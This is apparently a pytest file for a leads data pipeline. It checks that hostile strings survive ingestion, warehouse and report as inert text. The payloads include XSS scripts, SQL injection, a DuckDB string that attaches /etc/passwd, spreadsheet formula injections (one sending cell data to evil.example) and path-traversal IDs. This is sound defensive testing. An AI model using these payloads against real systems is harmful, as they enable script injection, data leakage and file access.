"""Hostile content on its whole way: wire, raw, staged, warehouse, marts and report; each value is found again."""

import html
import json
import re
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

import pytest

from leads_pipeline.contract import APPLICANT, LEAD_KINDS, Field, FieldType, LeadKind
from leads_pipeline.duck import quoted
from leads_pipeline.lake import Lake
from leads_pipeline.report.page import write_report
from leads_pipeline.warehouse import Warehouse, marts
from leads_pipeline_tests.chaos.way import (
    DAY,
    answering,
    connect,
    failures,
    odd_input,
    publish,
    pull,
    raw_rows,
    window,
)

Lead = dict[str, Any]

HOSTILE = {
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(2)></script><!--",
    "attribute": '" onmouseover="alert(3)" x=\'',
    "template": "{{ 7*7 }}${7*7}<%= 7*7 %>#{7*7}",
    "SQL": "'); drop table applicant_leads; --",
    "SQL quotes": "\"'`; attach '/etc/passwd' as x; copy (select 1) to '/tmp/owned'; $$",
    "formula": "=cmd|' /C calc'!A0",
    "formula with a link": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "formula after a sign": "+1+1-@SUM(1+1)*cmd|'/c calc'!A0",
    "line breaks": "a\r\nb\tc\u2028d\u2029e\x7f",
    "format": "%s%n%x{0}{}{x!r}\\u0000\\x00",
}
# What is in the report must not be a person's, so each text of a person carries this.
PERSONAL = "personal-0f3a"


@pytest.fixture
def lake(tmp_path: Path) -> Lake:
    return Lake(tmp_path / "data")


def walk(lake: Lake, leads: Mapping[LeadKind, Sequence[str]]) -> Warehouse:
    """The leads (JSON texts) over a socket to the published warehouse. They are landed exactly as they were sent."""

    def answer(path: str, _: dict[str, str]) -> tuple[int, bytes]:
        kind = next(kind for kind in LEAD_KINDS if kind.path == path)
        return 200, f'{{"{kind.list_key}":[{",".join(leads[kind])}]}}'.encode()

    with answering(answer) as (portal, variables):
        client, _ = connect(variables, lake)
        for kind, texts in leads.items():
            assert failures(pull(client, lake, [window()], kind)) == []
            assert sorted(raw_rows(lake, kind, "payload")) == sorted(texts)
        assert len(portal.data_requests) == len(leads)
    return publish(lake)


def rows(warehouse: Warehouse, table: str) -> list[dict[str, Any]]:
    names, found = warehouse.query(f"select * replace (_extra::varchar as _extra) from {quoted(table)}")  # noqa: S608 - quoted
    return [dict(zip(names, row, strict=True)) for row in found]


def page(warehouse: Warehouse, lake: Lake) -> str:
    """The report without the script that draws the charts."""
    text = write_report(warehouse, lake).path.read_text(encoding="utf-8")
    return "".join(part for part in re.split(r"(?s)(<script.*?</script>)", text) if len(part) < 1_000_000)


def put(lead: Lead, path: str, value: object) -> None:
    *objects, name = path.split(".")
    for step in objects:
        lead = lead.setdefault(step, {})
    lead[name] = value


def hostile_lead(kind: LeadKind, name: str, text: str) -> Lead:
    """A lead with that text in every declared field that can take it, and in one that nobody has declared."""
    lead: Lead = {"id": f"{name} {text}", "createdAt": f"{DAY}T10:00:00Z", "unheardOf": {text: [text, {text: text}]}}
    for field in kind.fields:
        if field.type is FieldType.TEXT:
            put(lead, field.path, said(field, text))
    for child in kind.children:
        put(lead, child.path, [{field.path: text for field in child.fields if field.type is FieldType.TEXT}])
    return lead


def said(field: Field, text: str) -> str:
    return f"{text}{PERSONAL}" if field.is_personal else text


def assert_found_again(
    warehouse: Warehouse, kind: LeadKind, leads: Mapping[str, Lead], texts: Mapping[str, str]
) -> None:
    found = {row["lead_id"]: row for row in rows(warehouse, kind.table)}
    assert found.keys() == {lead["id"] for lead in leads.values()}
    for name, lead in leads.items():
        row, text = found[lead["id"]], texts[name]
        for field in kind.fields:
            if field.type is FieldType.TEXT:
                assert row[field.column] == said(field, text), (name, field.path)
        assert row["_problems"] == []
        assert json.loads(row["_extra"]) == {"unheardOf": lead["unheardOf"]}
    for child in kind.children:
        columns = [field.column for field in child.fields if field.type is FieldType.TEXT]
        for row in rows(warehouse, child.name):
            number = next(name for name, lead in leads.items() if lead["id"] == row["lead_id"])
            assert [row[column] for column in columns] == [texts[number]] * len(columns)


def assert_report_is_safe(warehouse: Warehouse, lake: Lake, texts: Sequence[str]) -> None:
    shown = page(warehouse, lake)
    assert PERSONAL not in shown
    for text in texts:
        if re.search(r"[<>]", text):
            assert text not in shown
    assert not re.findall(r"(?i)<(?:script|img|iframe|object|embed|a|form|input|link|base)\b", shown)
    assert not re.findall(r"(?i)<[^>]*\son(?:mouseover|error|load|click)\s*=", shown)


def test_hostile_text_in_every_field_is_text_to_the_end(lake: Lake) -> None:
    leads = {kind: {name: hostile_lead(kind, name, text) for name, text in HOSTILE.items()} for kind in LEAD_KINDS}
    texts = {kind: [json.dumps(lead) for lead in found.values()] for kind, found in leads.items()}

    warehouse = walk(lake, texts)

    for kind, found in leads.items():
        assert_found_again(warehouse, kind, found, HOSTILE)
    assert_report_is_safe(warehouse, lake, list(HOSTILE.values()))
    shown = html.unescape(page(warehouse, lake))
    assert HOSTILE["HTML"] in shown  # the listing's id is there, escaped
    # The marts hold what isn't a person's, and nothing ran: no file was written, and every table is still there.
    assert not Path("/tmp/owned").exists()  # noqa: S108 - what the hostile text would write
    for mart in marts():
        cells = [cell for row in warehouse.query(f"from {mart.name}")[1] for cell in row]
        assert PERSONAL not in str(cells)
        if mart.name == "mart_listing_demand":
            assert set(HOSTILE.values()) <= {cell for cell in cells if isinstance(cell, str)}


def test_each_naughty_string_is_kept_to_the_letter(lake: Lake) -> None:
    naughty = {str(number): text for number, text in enumerate(odd_input("naughty"))}
    assert len(naughty) > 400
    leads = {number: hostile_lead(APPLICANT, number, text) for number, text in naughty.items()}

    warehouse = walk(lake, {APPLICANT: [json.dumps(lead) for lead in leads.values()]})

    assert_found_again(warehouse, APPLICANT, leads, naughty)
    assert_report_is_safe(warehouse, lake, [text for text in naughty.values() if len(text) > 3])


IDS = [
    "../../../etc/passwd",
    "..\\..\\windows",
    "/absolute",
    "a/../../b",
    "%2e%2e%2f",
    "leads.parquet",
    "*",
    "[a-z]?",
    "a'b\"c`d",
    "a|b,c...d",
    "\x01\x02\x1b[31mred\x07",
    "new\r\nline\ttab",
    "\u202eright to left\u202c\ufeff\u200b",
    "day=2026-01-01",
    "sha256:" + "0" * 64,
    "NULL",
    "-- ;",
    "a" * 5000,
    "\U0001f3e0",
]


def test_an_id_is_never_a_path_and_stays_as_it_is(lake: Lake, tmp_path: Path) -> None:
    def lead(id_: str) -> Lead:
        return {
            "id": id_,
            "createdAt": f"{DAY}T10:00:00Z",
            "portalBranchId": id_,
            "sourceBranchId": id_,
            "listingDetails": {"id": id_, "branchId": id_, "images": [{"original": id_, "filename": id_}]},
        }

    warehouse = walk(lake, {APPLICANT: [json.dumps(lead(id_)) for id_ in IDS]})

    found = {row["lead_id"]: row for row in rows(warehouse, "applicant_leads")}
    assert found.keys() == set(IDS)
    for id_, row in found.items():
        assert {row[name] for name in ("portal_branch_id", "listing_details_id", "listing_details_branch_id")} == {id_}
    listings = warehouse.query("select listing_id from mart_listing_demand")[1]
    assert {id_ for (id_,) in listings} >= {id_ for id_ in IDS if id_.strip() == id_ and id_.isprintable()}
    images = rows(warehouse, "applicant_listing_images")
    assert {(row["lead_id"], row["filename"]) for row in images} == {(id_, id_) for id_ in IDS}
    assert_report_is_safe(warehouse, lake, IDS)
    # Nothing lies anywhere but where windows and tables put it.
    assert {path.name for path in tmp_path.iterdir()} == {"data"}
    places = {path.relative_to(lake.folder).as_posix() for path in lake.folder.rglob("*") if path.is_file()}
    allowed = (
        rf"(raw|staged)/\w+/day={DAY}/(scope=branch-101/)?\w+\.parquet|leads\.duckdb|reports/leads\.html|\.state/.*"
    )
    assert [place for place in places if not re.fullmatch(allowed, place)] == []


# --- names of fields ----------------------------------------------------------------------------------------------

QUOTES = [
    '"',
    "'",
    "`",
    '""',
    'a"b',
    "a'b",
    'a"; drop table x; --',
    "$.a",
    "a.b",
    "/a/b",
    "a\\b",
    "",
    " ",
    "\u00e9",
    "a\nb",
    "<b>",
    "[0]",
    "*",
    "~0~1",
]
COLLIDING = [
    "Contact",
    "CONTACT",
    "contact_first_name",
    "created_at",
    "CreatedAt",
    "created_At",
    "listingdetails",
    "LeadSource",
    "listing_details_id",
    "viewing_times",
    "MESSAGE",
]
OURS = [
    "_extra",
    "_problems",
    "lead_id",
    "lead_day",
    "scope",
    "fetched_at",
    "source",
    "window_day",
    "person",
    "position",
    "payload",
    "oddity",
    "kind",
    "day",
    "run_id",
    "item",
    "doc",
    "body",
    "keys",
    "extra",
    "problems",
    "has_more",
    "file_row_number",
    "filename",
]
KEYWORDS = [
    "select",
    "from",
    "table",
    "order",
    "group",
    "null",
    "true",
    "default",
    "primary",
    "user",
    "current_date",
    "rowid",
    "SELECT",
    "values",
    "list",
    "struct_pack",
    "columns",
    "exclude",
]

NAMES = {
    "field name with quotes": QUOTES,
    "field names that collide in snake case": COLLIDING,
    "field name that is a column of ours": OURS,
    "field name that is an SQL keyword": KEYWORDS,
}


def email_of(lead_id: str) -> str:
    return f"{lead_id.replace(' ', '.')}@example.org"


@pytest.mark.parametrize("fault", NAMES)
def test_a_field_s_name_is_never_code_and_its_value_is_found_again(lake: Lake, fault: str) -> None:
    """Two leads have all of the names, and each name has a lead of its own; at the top, within an object and a list.

    So three people have sent each name, and the drift may show it.
    """
    every = dict.fromkeys(("every", "every again"), NAMES[fault])
    every |= {f"only {number}": [name] for number, name in enumerate(NAMES[fault])}
    leads = {
        id_: {
            "id": id_,
            "createdAt": f"{DAY}T10:00:00Z",
            "message": "m",
            "contact": {"email": email_of(id_), **{name: f"{PERSONAL} inner {name}" for name in names}},
            "viewingTimes": [{"earliest": f"{DAY}T10:00Z", **{name: f"{PERSONAL} item {name}" for name in names}}],
            **{name: f"{PERSONAL} {name}" for name in names},
        }
        for id_, names in every.items()
    }

    warehouse = walk(lake, {APPLICANT: [json.dumps(lead) for lead in leads.values()]})

    found = {row["lead_id"]: row for row in rows(warehouse, "applicant_leads")}
    times = {row["lead_id"]: row for row in rows(warehouse, "applicant_viewing_times")}
    assert found.keys() == times.keys() == leads.keys()
    for id_, names in every.items():
        row, time = found[id_], times[id_]
        assert (row["message"], row["contact_email"], row["contact_first_name"], row["_problems"]) == (
            "m",
            email_of(id_),
            None,
            [],
        )
        assert f"{row['created_at']:%Y-%m-%dT%H}" == f"{time['earliest']:%Y-%m-%dT%H}" == f"{DAY}T10"
        extra = json.loads(row["_extra"])
        assert extra.pop("contact") == {name: f"{PERSONAL} inner {name}" for name in names}
        assert extra == {name: f"{PERSONAL} {name}" for name in names}
        assert json.loads(time["_extra"]) == {name: f"{PERSONAL} item {name}" for name in names}
    assert_report_is_safe(warehouse, lake, [name for name in NAMES[fault] if len(name) > 3])
    hidden = {name for name in NAMES[fault] if not re.fullmatch(r"[A-Za-z_][A-Za-z0-9_]*", name)}
    fields = {field for (field,) in warehouse.query("select field from drift")[1]}
    assert {name for name in NAMES[fault] if name not in hidden} <= fields
    assert not fields & hidden


def test_10_000_unknown_fields_in_one_lead_cost_nobody_anything(lake: Lake) -> None:
    many = {f"field{number}": number for number in range(10_000)}
    wide = {"id": "wide", "createdAt": f"{DAY}T10:00:00Z", "message": "m", **many}
    deep = {"id": "deep", "contact": {"email": "a@example.org", **many}, "viewingTimes": [{"latest": None, **many}]}
    plain = {"id": "plain", "message": "m"}

    texts = [json.dumps(lead) for lead in (wide, plain, deep)]
    warehouse = walk(lake, {APPLICANT: texts})

    found = {row["lead_id"]: row for row in rows(warehouse, "applicant_leads")}
    assert json.loads(found["wide"]["_extra"]) == many
    assert json.loads(found["deep"]["_extra"]) == {"contact": many}
    assert (found["plain"]["_extra"], found["plain"]["message"], found["wide"]["message"]) == (None, "m", "m")
    assert [row["_problems"] for row in found.values()] == [[]] * 3
    [time] = rows(warehouse, "applicant_viewing_times")
    assert json.loads(time["_extra"]) == many
    # One person's lead shows no name, so it can't flood the drift either.
    assert warehouse.query("select field from drift where change = 'new field' order by all")[1] == [
        ("contact.…",),
        ("viewingTimes[].…",),
        ("…",),
    ]
    assert len(page(warehouse, lake)) < 100_000
